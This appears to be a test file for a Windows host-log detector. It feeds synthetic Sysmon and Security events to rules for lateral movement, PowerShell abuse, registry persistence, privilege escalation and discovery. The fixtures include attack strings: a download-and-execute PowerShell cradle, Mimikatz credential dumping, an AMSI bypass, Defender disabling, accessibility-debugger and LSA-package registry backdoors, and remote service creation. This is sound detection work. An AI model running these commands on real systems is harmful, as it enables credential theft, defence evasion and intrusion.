/**
 * Lateral movement, PowerShell, registry/WMI persistence, privilege escalation
 * and discovery detectors: positive and negative cases built from EvtxEvents,
 * then corpus checks (evtx-attack-samples) when the corpus is present.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { classify, discovery, hostDetectors, persistence, judgeProcess, lateralMovement, matchKey, matchPowerShell, parseRegAdd, powershell, privilegeEscalation, registry, tacticsOf } from '../../../src/detectors/host/index.js';
import type { Finding } from '../../../src/core/finding.js';
import type { SpoorEvent } from '../../../src/core/event.js';
import { corpusFile, needCorpus } from '../../support/corpus.js';
import { ctxWith, EventBuilder, MIN, run, T0 } from './builder.js';

const SM = { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational' };
const SYS = { provider: 'Service Control Manager', channel: 'System' };
const rules = (fs: Finding[]) => fs.map((f) => String(f.facts?.rule)).sort();

test('lateral: admin shares and svcctl/atsvc pipes from remote sources; local and machine-account access ignored', () => {
  const b = new EventBuilder();
  const share = (t: number, share: string, rel: string, ip: string, user = 'admin', mask = '0x12019f') => b.ev('5145', t, { SubjectUserName: user, SubjectLogonId: '0x1', ShareName: share, RelativeTargetName: rel, IpAddress: ip, AccessMask: mask });
  const evs = [
    share(T0, '\\\\*\\IPC$', 'svcctl', '10.0.2.17'),
    share(T0 + 1, '\\\\*\\IPC$', 'atsvc', '10.0.2.17'),
    share(T0 + 2, '\\\\*\\ADMIN$', 'PSEXESVC.exe', '10.0.2.17', 'admin', '0x2'),
    share(T0 + 3, '\\\\*\\IPC$', 'svcctl', '127.0.0.1'), // local: ignored
    share(T0 + 4, '\\\\*\\IPC$', 'svcctl', '10.0.2.18', 'DC01$'), // machine account: ignored
    share(T0 + 5, '\\\\*\\SYSVOL', 'x\\gpt.ini', '10.0.2.17'), // ordinary share: ignored
    share(T0 + 6, '\\\\*\\IPC$', 'lsarpc', '10.0.2.17'), // enumeration pipe: not lateral
  ];
  const fs = run([lateralMovement], evs);
  assert.deepEqual(rules(fs), ['admin-share-write', 'remote-atsvc', 'remote-svcctl']);
  assert.ok(fs.every((f) => f.attack.some((a) => tacticsOf(a).includes('lateral-movement'))));
  assert.equal(fs.find((f) => f.facts?.rule === 'remote-svcctl')?.severity, 'high');
});

test('lateral: pass-the-hash shapes, 4648 to remote hosts, remote service creation after a network logon', () => {
  const b = new EventBuilder('WIN-SRV01');
  const evs = [
    b.ev('4624', T0, { SubjectUserName: 'user01', SubjectLogonId: '0x18a7875', TargetUserName: 'user01', TargetLogonId: '0x4530f0f', LogonType: '9', LogonProcessName: 'seclogo', AuthenticationPackageName: 'Negotiate', IpAddress: '::1', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }),
    b.ev('4624', T0 + MIN, { TargetUserName: 'Administrator', TargetLogonId: '0x10', LogonType: '3', LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', KeyLength: '0', IpAddress: '10.0.2.17', SubjectLogonId: '0x0' }),
    b.ev('7045', T0 + MIN + 20_000, { ServiceName: 'updsvc', ImagePath: 'C:\\Windows\\updsvc.exe', AccountName: 'LocalSystem' }, SYS),
    // a type 3 logon with a session key (Kerberos) and a service an hour later: neither is raised
    b.ev('4624', T0 + 2 * MIN, { TargetUserName: 'bob', TargetLogonId: '0x20', LogonType: '3', LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos', KeyLength: '0', IpAddress: '10.0.2.30', SubjectLogonId: '0x0' }),
    b.ev('7045', T0 + 90 * MIN, { ServiceName: 'VMware Tools', ImagePath: '"C:\\Program Files\\VMware\\vmtoolsd.exe"', AccountName: 'LocalSystem' }, SYS),
    b.ev('4648', T0 + 3 * MIN, { SubjectUserName: 'admin', SubjectLogonId: '0x1', TargetUserName: 'Administrator', TargetServerName: 'FS01', ProcessName: 'C:\\Windows\\System32\\wbem\\WMIC.exe' }),
    b.ev('4648', T0 + 3 * MIN, { SubjectUserName: 'admin', SubjectLogonId: '0x1', TargetUserName: 'Administrator', TargetServerName: 'localhost', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }),
  ];
  const fs = run([lateralMovement], evs);
  assert.deepEqual(rules(fs), ['explicit-credentials-remote', 'pth-source-seclogo', 'pth-target-ntlm', 'remote-service-creation']);
  const rs = fs.find((f) => f.facts?.rule === 'remote-service-creation')!;
  assert.equal(rs.src, '10.0.2.17');
  assert.equal(rs.facts?.service, 'updsvc');
  assert.equal(rs.evidence.length, 2, 'cites the logon and the service record');
  assert.equal(fs.find((f) => f.facts?.rule === 'explicit-credentials-remote')?.severity, 'medium');
});

test('lateral: WinRM, wsmprovhost children, WMI and DCOM parents', () => {
  const b = new EventBuilder();
  const proc = (t: number, image: string, parent: string, parentCmd = '') => b.ev('1', t, { Image: image, CommandLine: image, ParentImage: parent, ParentCommandLine: parentCmd, User: 'D\\admin', LogonId: '0x99' }, SM);
  const evs = [
    b.ev('91', T0, { resourceUri: 'http://schemas.microsoft.com/powershell/Microsoft.PowerShell' }, { provider: 'Microsoft-Windows-WinRM', channel: 'Microsoft-Windows-WinRM/Operational' }),
    proc(T0 + 1, 'C:\\Windows\\System32\\HOSTNAME.EXE', 'C:\\Windows\\System32\\wsmprovhost.exe', 'wsmprovhost.exe -Embedding'),
    proc(T0 + 2, 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'),
    proc(T0 + 3, 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\mmc.exe', 'C:\\Windows\\system32\\mmc.exe -Embedding'),
    proc(T0 + 4, 'C:\\Windows\\System32\\notepad.exe', 'C:\\Windows\\explorer.exe'), // ordinary
    proc(T0 + 5, 'C:\\Windows\\System32\\WerFault.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'), // not a shell
  ];
  const fs = run([lateralMovement], evs);
  assert.deepEqual(rules(fs), ['dcom-mmc20', 'winrm-exec', 'winrm-shell', 'wmi-exec']);
  assert.deepEqual(fs.find((f) => f.facts?.rule === 'wmi-exec')?.attack, ['T1047'], 'local WMI is execution, not lateral movement');
});

test('powershell: script blocks, module logging, engine events and command lines', () => {
  assert.ok(matchPowerShell('IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1"); Invoke-Mimikatz -DumpCreds').some((m) => m.rule.rule === 'ps-mimikatz'));
  assert.ok(matchPowerShell("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')").some((m) => m.rule.rule === 'ps-amsi-bypass'));
  assert.deepEqual(matchPowerShell('Get-ChildItem C:\\Users | Sort-Object Length'), []);
  // a list of cmdlet names is not a call
  assert.deepEqual(matchPowerShell('"Clear-EventLog", "Register-WmiEvent", "Remove-EventLog"').map((m) => m.rule.rule), []);
  const b = new EventBuilder();
  const ps = { provider: 'Microsoft-Windows-PowerShell', channel: 'Microsoft-Windows-PowerShell/Operational' };
  const evs = [
    b.ev('4104', T0, { ScriptBlockText: "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://203.0.113.9/p.ps1')", ScriptBlockId: 'x' }, ps),
    b.ev('4104', T0 + 1, { ScriptBlockText: 'Write-Host hello', ScriptBlockId: 'y' }, ps),
    b.ev('4103', T0 + 2, { Payload: 'CommandInvocation(Set-WmiInstance): "Set-WmiInstance" name="Class"; value="CommandLineEventConsumer"', ContextInfo: 'Host Application = powershell.exe' }, ps),
    b.ev('800', T0 + 3, { param1: 'Set-MpPreference -DisableRealtimeMonitoring $true', param2: 'HostApplication=powershell.exe' }, { provider: 'PowerShell', channel: 'Windows PowerShell' }),
    b.ev('1', T0 + 4, { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: 'powershell.exe -c "Invoke-Command -ComputerName FS01 -ScriptBlock {whoami}"', User: 'D\\a', LogonId: '0x5' }, SM),
    b.ev('1', T0 + 5, { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c Invoke-Mimikatz', User: 'D\\a', LogonId: '0x5' }, SM), // not PowerShell
  ];
  const fs = run([powershell], evs);
  assert.deepEqual(rules(fs), ['ps-defender', 'ps-download', 'ps-remoting', 'ps-wmi-subscription']);
  assert.ok(fs.every((f) => f.evidence.length > 0));
});

test('registry: Run keys, IFEO, UAC-bypass keys, WMI subscriptions; benign writers and values ignored', () => {
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd', 'C:\\Users\\Public\\u.exe', 'C:\\Users\\Public\\a.exe', 'SetValue').map((r) => r.rule), ['run-key']);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive', '"C:\\Program Files\\OneDrive\\OneDrive.exe"', 'C:\\Windows\\System32\\msiexec.exe', 'SetValue'), []);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger', 'C:\\windows\\system32\\cmd.exe', 'C:\\Windows\\regedit.exe', 'SetValue').map((r) => r.rule), ['ifee-accessibility']);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA', 'DWORD (0x00000001)', 'C:\\x.exe', 'SetValue'), [], 'UAC turned on is not an attack');
  assert.deepEqual(parseRegAdd('reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe" /v Debugger /t REG_SZ /d cmd.exe /f'), { key: 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\utilman.exe\\Debugger', data: 'cmd.exe' });
  const b = new EventBuilder();
  const reg = (t: number, key: string, details: string, image: string) => b.ev('13', t, { EventType: 'SetValue', TargetObject: key, Details: details, Image: image, User: 'D\\u' }, SM);
  const evs = [
    reg(T0, 'HKU\\S-1-5-21-1-2-3-1000_Classes\\ms-settings\\shell\\open\\command\\(Default)', 'C:\\Windows\\system32\\cmd.exe', 'C:\\Users\\u\\Desktop\\x.exe'),
    reg(T0 + 1, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\', '"c:\\windows\\tasks\\taskhost.exe"', 'C:\\Users\\Public\\a.exe'),
    reg(T0 + 2, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt\\OpenWithList\\a', 'notepad.exe', 'C:\\Windows\\explorer.exe'),
    b.ev('20', T0 + 3, { Operation: 'Created', Name: 'evil', Type: 'Command Line', Destination: 'powershell.exe -enc AAAA', User: 'D\\u' }, SM),
    b.ev('4688', T0 + 4, { NewProcessName: 'C:\\Windows\\System32\\reg.exe', CommandLine: 'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v "Security Packages" /t REG_MULTI_SZ /d mimilib /f', SubjectUserName: 'a', SubjectLogonId: '0x1' }),
    b.ev('5861', T0 + 5, { ESS: 'ROOT\\subscription', CONSUMER: 'NTEventLogEventConsumer="SCM Event Log Consumer"', PossibleCause: 'Binding EventFilter' }, { provider: 'Microsoft-Windows-WMI-Activity', channel: 'Microsoft-Windows-WMI-Activity/Operational' }),
  ];
  const fs = run([registry], evs);
  assert.deepEqual(rules(fs), ['lsa-packages', 'run-key', 'uac-bypass-key', 'wmi-subscription']);
  assert.equal(fs.find((f) => f.facts?.rule === 'wmi-subscription')?.severity, 'critical');
  assert.equal(fs.find((f) => f.facts?.rule === 'run-key')?.severity, 'high', 'Run value pointing at a user-writable folder');
});

test('privilege escalation: UAC bypass children, mocked folders, Potato pipes, admin session after brute force', () => {
  assert.equal(judgeProcess('C:\\Windows\\System32\\cmd.exe', 'cmd.exe', 'C:\\Windows\\System32\\fodhelper.exe', '')?.rule, 'uac-bypass-child');
  assert.equal(judgeProcess('C:\\Windows\\System32\\mmc.exe', 'mmc.exe eventvwr.msc', 'C:\\Windows\\System32\\eventvwr.exe', ''), null, 'eventvwr opening mmc is normal');
  assert.equal(judgeProcess('C:\\Windows \\System32\\winSAT.exe', '', 'C:\\x.exe', '')?.rule, 'mock-system-folder');
  assert.equal(judgeProcess('C:\\Windows\\System32\\cmd.exe', 'cmd', 'C:\\Windows\\System32\\dllhost.exe', 'C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}')?.rule, 'uac-bypass-com');
  assert.equal(judgeProcess('C:\\Windows\\System32\\notepad.exe', 'notepad', 'C:\\Windows\\explorer.exe', ''), null);
  const b = new EventBuilder();
  const evs = [
    b.ev('17', T0, { EventType: 'CreatePipe', PipeName: '\\RoguePotato\\pipe\\epmapper', Image: 'C:\\t\\RoguePotato.exe' }, SM),
    b.ev('17', T0 + 1, { EventType: 'CreatePipe', PipeName: '\\MsFteWds', Image: 'C:\\Windows\\System32\\SearchIndexer.exe' }, SM),
  ];
  for (let i = 0; i < 30; i++) evs.push(b.fail(T0 + MIN + i * 1000, 'Administrator', '203.0.113.5'));
  evs.push(b.logon(T0 + 2 * MIN, 'Administrator', '203.0.113.5', '0x777', '10'));
  evs.push(b.ev('4672', T0 + 2 * MIN, { SubjectUserName: 'Administrator', SubjectLogonId: '0x777', PrivilegeList: 'SeDebugPrivilege' }));
  evs.push(b.logon(T0 + 3 * MIN, 'alice', '10.0.0.5', '0x888', '10'));
  evs.push(b.ev('4672', T0 + 3 * MIN, { SubjectUserName: 'alice', SubjectLogonId: '0x888', PrivilegeList: 'SeDebugPrivilege' }));
  const fs = run([privilegeEscalation], evs);
  assert.deepEqual(rules(fs), ['potato-pipe', 'privileged-session-suspicious-source']);
  const ps = fs.find((f) => f.facts?.rule === 'privileged-session-suspicious-source')!;
  assert.equal(ps.user, 'Administrator');
  assert.equal(ps.outcome, 'compromised');
});

test('discovery: single commands low, a burst in one session medium; enumeration pipes need two', () => {
  const b = new EventBuilder();
  const p = (t: number, img: string, cmd: string, lid = '0x42') => b.ev('4688', t, { NewProcessName: img, CommandLine: cmd, SubjectUserName: 'u', SubjectLogonId: lid });
  const evs = [
    p(T0, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all'),
    p(T0 + MIN, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain'),
    p(T0 + 2 * MIN, 'C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:corp'),
    p(T0 + 3 * MIN, 'C:\\Windows\\System32\\net.exe', 'net user eve P@ss /add'), // account creation, not discovery
    p(T0 + 60 * MIN, 'C:\\Windows\\System32\\systeminfo.exe', 'systeminfo', '0x43'),
    b.ev('5145', T0, { SubjectUserName: 'admin01', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'samr', IpAddress: '10.0.2.18' }),
    b.ev('5145', T0 + 1, { SubjectUserName: 'admin01', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'srvsvc', IpAddress: '10.0.2.18' }),
    b.ev('5145', T0 + 2, { SubjectUserName: 'bob', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'srvsvc', IpAddress: '10.0.2.19' }),
  ];
  const fs = run([discovery], evs);
  const burst = fs.filter((f) => f.facts?.rule === 'discovery-burst');
  assert.equal(burst.length, 1);
  assert.deepEqual((burst[0].facts?.commands as string[]).sort(), ['net group', 'nltest', 'whoami']);
  assert.equal(fs.filter((f) => f.facts?.rule === 'discovery-command').length, 4);
  assert.deepEqual(fs.filter((f) => f.facts?.rule === 'rpc-enumeration').map((f) => f.user), ['admin01']);
  assert.ok(fs.every((f) => f.attack.some((a) => tacticsOf(a).includes('discovery'))));
});

test('lateral/persistence extras: renamed PsExec pipes, SMB drops, Startup folder, BITS, xp_cmdshell, command-line rules', () => {
  const b = new EventBuilder();
  const evs = [
    b.ev('17', T0, { EventType: 'CreatePipe', PipeName: '\\svchost-MSEDGEWIN10-8116-stdin', Image: 'C:\\Windows\\svchost.exe' }, SM),
    b.ev('17', T0 + 1, { EventType: 'CreatePipe', PipeName: '\\MsFteWds', Image: 'C:\\Windows\\System32\\SearchIndexer.exe' }, SM),
    b.ev('11', T0 + 2, { Image: 'System', TargetFilename: 'C:\\ProgramData\\7okjer.dll' }, SM),
    b.ev('11', T0 + 3, { Image: 'System', TargetFilename: 'C:\\Users\\a\\Documents\\report.docx' }, SM),
  ];
  const lm = run([lateralMovement], evs);
  assert.deepEqual(rules(lm), ['psexec-pipe', 'smb-file-drop']);
  assert.equal(lm.find((f) => f.facts?.rule === 'psexec-pipe')?.facts?.renamed, true);

  const bits = (t: number, url: string, name: string) => b.ev('59', t, { name, url, transferId: '{1}' }, { provider: 'Microsoft-Windows-Bits-Client', channel: 'Microsoft-Windows-Bits-Client/Operational' });
  const pe = [
    b.ev('11', T0, { Image: 'C:\\Windows\\system32\\mstsc.exe', TargetFilename: 'C:\\Users\\administrator\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\cmd.exe' }, SM),
    bits(T0 + 1, 'C:\\Windows\\system32\\cmd.exe', 'backdoor'),
    bits(T0 + 2, 'http://r3---sn-5hnedn7z.gvt1.com/edgedl/release2/chrome/x/86.0_chrome_installer.exe', 'GoogleUpdate'),
    bits(T0 + 3, 'https://img-s-msn-com.akamaized.net/tenant/amp/entityid/BB1a7GBU.img', 'Push Notification Platform Job: 1'),
    b.ev('15457', T0 + 4, { param1: 'xp_cmdshell, 0, 1' }, { provider: 'MSSQLSERVER', channel: 'Application' }),
    b.ev('15457', T0 + 5, { param1: 'xp_cmdshell, 1, 0' }, { provider: 'MSSQLSERVER', channel: 'Application' }),
  ];
  const ps = run([persistence], pe);
  assert.deepEqual(rules(ps), ['bits-job', 'sql-xpcmdshell-enabled', 'startup-folder-file']);
  assert.ok(ps.find((f) => f.facts?.rule === 'startup-folder-file')?.attack.includes('T1021.001'), 'tsclient drop via mstsc');

  const cmd = (c: string) => classify('', c).map((h) => h.rule);
  assert.ok(cmd('sc \\\\FS01 create evil binPath= "cmd /c calc"').includes('sc-remote'));
  assert.ok(cmd('tscon 2 /dest:rdp-tcp#14').includes('rdp-hijack'));
  assert.ok(cmd('net use \\\\10.0.0.5\\C$ /user:corp\\admin P@ss').includes('net-use-admin-share'));
  assert.ok(cmd('cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\C$\\WqEVwJZYOe 2>&1').includes('impacket'));
  assert.deepEqual(cmd('net use'), []);
  assert.deepEqual(cmd('sc query wuauserv'), []);
});

test('registry and PowerShell evasion: CLM policy deleted, PowerShell 2 downgrade, Defender features off', () => {
  assert.deepEqual(matchKey('HKLM\\System\\CurrentControlSet\\Control\\SESSION MANAGER\\Environment\\__PSLockdownPolicy', '', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'DeleteValue').map((r) => r.rule), ['clm-removed']);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy', 'Unrestricted', 'C:\\x\\powershell.exe', 'SetValue').map((r) => r.rule), ['ps-language-mode']);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy', 'RemoteSigned', 'C:\\x\\powershell.exe', 'SetValue'), []);
  assert.deepEqual(matchKey('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x', '', 'C:\\x.exe', 'DeleteValue'), [], 'removing a Run value is not persistence');
  assert.ok(matchPowerShell('powershell.exe -Version 2 -nop -c whoami', { process: true }).some((m) => m.rule.rule === 'ps-downgrade'));
  assert.ok(matchPowerShell('Set-MpPreference -EnableControlledFolderAccess Disabled', { process: true }).some((m) => m.rule.rule === 'ps-defender'));
  assert.ok(!matchPowerShell('Set-MpPreference -EnableControlledFolderAccess Enabled', { process: true }).some((m) => m.rule.rule === 'ps-defender'));
  const b = new EventBuilder();
  const wps = { provider: 'PowerShell', channel: 'Windows PowerShell' };
  const evs = [
    b.ev('400', T0, { param1: 'Available, None, \tNewEngineState=Available\n\tSequenceNumber=9\n\tHostVersion=2.0\n\tEngineVersion=2.0\n\tCommandLine=' }, wps),
    b.ev('400', T0 + 1, { param1: 'Available, None, \tNewEngineState=Available\n\tSequenceNumber=13\n\tHostVersion=5.1.1\n\tEngineVersion=5.1.1\n\tHostApplication=powershell.exe\n\tCommandLine=' }, wps),
    b.ev('600', T0 + 2, { param1: 'Registry, Started, \tProviderName=Registry\n\tNewProviderState=Started\n\tHostApplication=powershell.exe' }, wps),
  ];
  const fs = run([powershell], evs);
  assert.deepEqual(rules(fs), ['ps-downgrade']);
  assert.equal(fs[0].evidence.length, 1);
});

test('all host detectors still share one state: the feeder sees each event once', () => {
  const ctx = ctxWith();
  const ds = hostDetectors.map((m) => m.create(ctx));
  const b = new EventBuilder();
  for (let i = 0; i < 10; i++) for (const d of ds) d.observe(b.fail(T0 + i * 1000, 'Administrator', '198.51.100.7'));
  const fs = ds.flatMap((d) => d.finish());
  const bf = fs.find((f) => f.detector === 'host.bruteforce');
  assert.equal(bf?.facts?.failures ?? bf?.facts?.count, 10);
});

// ---- corpus -------------------------------------------------------------

type Parse = (buf: Buffer, id: string, sink?: (p: unknown) => void) => SpoorEvent[];
let parse: Parse | null = null;
try {
  parse = ((await import('../../../src/readers/evtx/index.js')) as unknown as { parseEvtxBuffer?: Parse }).parseEvtxBuffer ?? null;
} catch {
  parse = null;
}
const EAS = 'evtx-attack-samples/';
function detect(rel: string): Finding[] {
  const ctx = ctxWith();
  const ds = hostDetectors.map((m) => m.create(ctx));
  for (const e of parse!(readFileSync(corpusFile(rel)!), rel, () => undefined)) for (const d of ds) d.observe(e);
  return ds.flatMap((d) => d.finish());
}
const CASES: [string, string, string][] = [
  ['Lateral Movement/LM_Remote_Service01_5145_svcctl.evtx', 'host.lateral-movement', 'remote-svcctl'],
  ['Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx', 'host.lateral-movement', 'remote-atsvc'],
  ['Lateral Movement/LM_4624_mimikatz_sekurlsa_pth_source_machine.evtx', 'host.lateral-movement', 'pth-source-seclogo'],
  ['Lateral Movement/LM_PowershellRemoting_sysmon_1_wsmprovhost.evtx', 'host.lateral-movement', 'winrm-exec'],
  ['Lateral Movement/LM_winrm_target_wrmlogs_91_wsmanShellStarted_poorLog.evtx', 'host.lateral-movement', 'winrm-shell'],
  ['Persistence/sysmon_20_21_1_CommandLineEventConsumer.evtx', 'host.registry', 'wmi-subscription'],
  ['Persistence/evasion_persis_hidden_run_keyvalue_sysmon_13.evtx', 'host.registry', 'run-key'],
  ['Privilege Escalation/Sysmon_UACME_33.evtx', 'host.registry', 'uac-bypass-key'],
  ['Privilege Escalation/sysmon_11_7_1_uacbypass_windirectory_mocking.evtx', 'host.privilege-escalation', 'mock-system-folder'],
  ['Privilege Escalation/privesc_roguepotato_sysmon_17_18.evtx', 'host.privilege-escalation', 'potato-pipe'],
  ['Discovery/discovery_bloodhound.evtx', 'host.discovery', 'rpc-enumeration'],
];
for (const [rel, det, rule] of CASES) {
  test(`corpus: ${rel} → ${det} ${rule}`, { skip: needCorpus(EAS + rel) || (parse ? false : 'EVTX reader not available') }, () => {
    const fs = detect(EAS + rel);
    assert.ok(fs.some((f) => f.detector === det && f.facts?.rule === rule), `found: ${fs.map((f) => `${f.detector}:${String(f.facts?.rule)}`).join(', ')}`);
  });
}

test('corpus: a benign-only log gives no lateral, registry or privilege findings', { skip: needCorpus(EAS + 'Discovery/discovery_psloggedon.evtx') || (parse ? false : 'EVTX reader not available') }, () => {
  // PsLoggedOn reads remote registry and lsarpc: discovery, not lateral movement
  const fs = detect(EAS + 'Discovery/discovery_psloggedon.evtx');
  assert.ok(!fs.some((f) => f.detector === 'host.lateral-movement'), fs.map((f) => f.detector).join(','));
  assert.ok(fs.some((f) => f.detector === 'host.discovery'));
});
